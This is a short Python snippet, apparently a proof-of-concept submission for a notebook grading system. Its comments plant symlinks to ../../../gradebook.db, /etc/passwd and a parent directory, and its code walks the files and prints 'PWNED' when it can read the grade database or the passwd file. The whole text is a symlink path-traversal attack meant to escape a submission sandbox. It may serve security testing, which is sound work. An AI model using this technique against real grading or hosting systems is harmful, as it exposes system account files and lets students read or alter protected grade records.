# goal: have links followed when the submission is copied · must: left out
# notebook: symlink data.db ../../../gradebook.db
# notebook: symlink users.txt /etc/passwd
# notebook: symlink folder ../../..
import glob
for path in glob.glob("**", recursive=True):
    try:
        head = open(path, "rb").read(40)
        print("PWNED" if head.startswith((b"SQLite", b"root:")) else "other", path)
    except OSError as error:
        print(error)
